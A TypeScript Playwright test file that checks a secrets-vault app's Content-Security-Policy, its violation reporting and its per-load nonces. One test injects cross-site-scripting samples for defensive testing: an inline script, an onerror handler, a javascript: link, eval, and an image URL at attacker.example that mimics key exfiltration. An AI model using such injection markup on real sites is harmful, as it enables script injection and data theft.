// The page is the attack surface: once signed in, any script that runs can read unlocked keys.
// Markup an attacker slips into a page (an inline <script>, an <img onerror>) and eval() must
// not run under the Content-Security-Policy, the server must hear of each attempt, and no two
// page loads may share a nonce.
import fs from "node:fs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { launchChromium, watchForErrors } from "../support/browser";
import { setUpOwnerInBrowser, waitForHome } from "../support/browser-flows";
import { openFromNav } from "../support/e2e-steps";
import { startServer, type RunningServer } from "../support/server";

const owner = {
  organisation: "Lantern Labs",
  name: "Olive Owner",
  email: "olive@lantern.test",
  password: "a long and memorable passphrase",
};

let server: RunningServer;
let browser: Browser;
let context: BrowserContext;
let page: Page;
let errors: () => string[];

type Probe = Window & {
  injectedScriptRan?: boolean;
  injectedHandlerRan?: boolean;
  evalRan?: boolean;
  evalError?: string;
  functionRan?: boolean;
  javascriptUrlRan?: boolean;
};

function nonceOf(policy: string | null | undefined): string {
  const match = /'nonce-([A-Za-z0-9+/=]+)'/.exec(policy ?? "");
  if (!match?.[1]) throw new Error(`no nonce in policy: ${policy}`);
  return match[1];
}

/** The violations the report route wrote to the server log, one object per line. */
function loggedViolations(): Array<{ directive: string; blocked: string; page: string }> {
  return fs
    .readFileSync(server.logFile, "utf8")
    .split("\n")
    .flatMap((line) => {
      const at = line.indexOf("[csp] violation ");
      return at === -1 ? [] : [JSON.parse(line.slice(at + "[csp] violation ".length))];
    });
}

beforeAll(async () => {
  server = await startServer({ kind: "pglite", port: 3311 });
  browser = await launchChromium();
  context = await browser.newContext();
  page = await context.newPage();
  errors = watchForErrors(page);
});

afterAll(async () => {
  await browser?.close();
  await server?.stop();
});

describe("the Content-Security-Policy in the signed-in app", () => {
  it("lets the app itself run: set-up, Argon2id in the worker, libsodium and navigation", async () => {
    await setUpOwnerInBrowser(page, server.url, owner);
    for (const label of ["Vaults", "Rotation", "Settings", "People", "Security", "Audit log"]) {
      await openFromNav(page, label);
      await page.waitForURL((url) => url.pathname !== "/home");
      await page.getByRole("heading", { level: 1 }).first().waitFor();
      await openFromNav(page, "Home");
      await waitForHome(page);
    }
    await waitForHome(page);
    expect(errors()).toEqual([]);
    expect(loggedViolations()).toEqual([]);
  });

  it("refuses an injected inline script, an <img onerror> and eval, and reports each", async () => {
    const violations: string[] = [];
    page.on("console", (message) => {
      if (message.type() === "error") violations.push(message.text());
    });
    // Markup arriving with the page, as a stored cross-site scripting flaw would serve it.
    const homeWithQuery = (url: URL) => url.pathname === "/home" && url.search !== "";
    await page.route(homeWithQuery, async (route) => {
      const response = await route.fetch();
      const html = (await response.text()).replace(
        "</body>",
        "<script>window.injectedScriptRan = true</script></body>",
      );
      await route.fulfill({ response, body: html });
    });
    // The query string stands in for anything sensitive in a URL: it must not be recorded.
    await page.goto(`${server.url}/home?secret=do-not-log-me`);
    await page.getByRole("heading", { name: "Coffer is locked" }).waitFor();
    await page.evaluate(() => {
      document.body.insertAdjacentHTML(
        "beforeend",
        // img-src refuses the image, which fires onerror, which script-src refuses in turn.
        `<img alt="" src="https://attacker.example/collect?key=do-not-log-me" onerror="window.injectedHandlerRan = true">`,
      );
      document.body.insertAdjacentHTML(
        "beforeend",
        `<a id="injected-link" href="javascript:window.javascriptUrlRan = true">x</a>`,
      );
      // From a timer, not from the DevTools call: code evaluated by DevTools may eval freely.
      setTimeout(() => {
        const probe = window as Probe;
        document.querySelector<HTMLAnchorElement>("#injected-link")?.click();
        try {
          probe.evalRan = eval("true") as boolean;
        } catch (error) {
          probe.evalError = (error as Error).name;
        }
        try {
          probe.functionRan = new Function("return true")() as boolean;
        } catch {
          probe.functionRan = false;
        }
      }, 0);
    });
    await expect
      .poll(() => page.evaluate(() => (window as Probe).evalError), { timeout: 10_000 })
      .toBe("EvalError");
    await expect
      .poll(() => loggedViolations().map((entry) => entry.directive), { timeout: 15_000 })
      .toEqual(
        expect.arrayContaining(["script-src-elem", "script-src-attr", "script-src", "img-src"]),
      );
    for (const entry of loggedViolations()) expect(entry.page).toBe("/home");
    expect(loggedViolations()).toContainEqual({
      directive: "script-src-elem",
      blocked: "inline",
      page: "/home",
    });
    expect(loggedViolations()).toContainEqual({
      directive: "script-src",
      blocked: "eval",
      page: "/home",
    });
    expect(loggedViolations()).toContainEqual({
      directive: "img-src",
      blocked: "https://attacker.example",
      page: "/home",
    });
    const probe = await page.evaluate(() => {
      const { injectedScriptRan, injectedHandlerRan, evalRan, functionRan, javascriptUrlRan } =
        window as Probe;
      return { injectedScriptRan, injectedHandlerRan, evalRan, functionRan, javascriptUrlRan };
    });
    expect(probe).toEqual({
      injectedScriptRan: undefined,
      injectedHandlerRan: undefined,
      evalRan: undefined,
      functionRan: false,
      javascriptUrlRan: undefined,
    });
    expect(violations.length).toBeGreaterThanOrEqual(4);
    for (const text of violations) expect(text).toMatch(/Content Security Policy/);
    expect(fs.readFileSync(server.logFile, "utf8")).not.toContain("do-not-log-me");
    await page.unroute(homeWithQuery);
  });

  it("gives every page a nonce of its own on every load", async () => {
    const paths = ["/signin", "/home", "/vaults", "/settings", "/settings/security", "/mfa"];
    const seen = new Set<string>();
    for (const path of paths) {
      for (let load = 0; load < 2; load++) {
        const response = await context.request.get(`${server.url}${path}`, { maxRedirects: 0 });
        const nonce = nonceOf(response.headers()["content-security-policy"]);
        expect(seen.has(nonce), `${path} repeated a nonce`).toBe(false);
        seen.add(nonce);
        if (response.status() === 200) {
          const html = await response.text();
          expect(html).toContain(`nonce="${nonce}"`);
          const scriptNonces = [...html.matchAll(/<script[^>]*\snonce="([^"]+)"/g)].map(
            (match) => match[1],
          );
          expect(scriptNonces.length).toBeGreaterThan(0);
          expect(new Set(scriptNonces)).toEqual(new Set([nonce]));
        }
      }
    }
    // And in the browser: the nonce the page's scripts carry changes with each load.
    const scriptNonce = () =>
      page.evaluate(() => document.querySelector<HTMLScriptElement>("script[nonce]")?.nonce);
    await page.goto(`${server.url}/vaults`);
    const first = await scriptNonce();
    await page.reload();
    const second = await scriptNonce();
    expect(first).toBeTruthy();
    expect(second).toBeTruthy();
    expect(first).not.toBe(second);
  });
});
